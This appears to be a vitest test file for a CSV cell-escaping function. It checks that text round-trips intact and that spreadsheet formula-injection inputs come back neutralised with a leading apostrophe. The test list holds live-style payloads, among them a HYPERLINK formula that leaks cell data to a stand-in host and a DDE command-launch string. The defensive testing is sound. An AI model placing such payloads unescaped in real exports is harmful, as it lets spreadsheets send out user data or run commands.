import { expect, it } from "vitest";
import { readCsv } from "@/lib/testing/read-csv";
import { csvCell } from "./csv";

const read = (value: string) => readCsv(`${csvCell(value)}\r\n`)[0]?.[0];

it("brings back whatever was written: quotes, commas, lines, letters of every kind", () => {
  for (const text of [
    'Say "no", then\nwait',
    "a,b;c\td",
    "Ümläut, 日本語, 👩‍🚒",
    "",
    "  ",
    "1.5",
    "\\",
  ])
    expect(read(text)).toBe(text);
});

it("gives a spreadsheet nothing to work out", () => {
  const hostile = [
    '=HYPERLINK("http://x.test?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r\n=1+1",
    "  =1+1",
    "\u200B=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
  ];
  for (const text of hostile) expect(read(text)).toBe(`'${text}`);
  expect(read("a=b")).toBe("a=b");
});
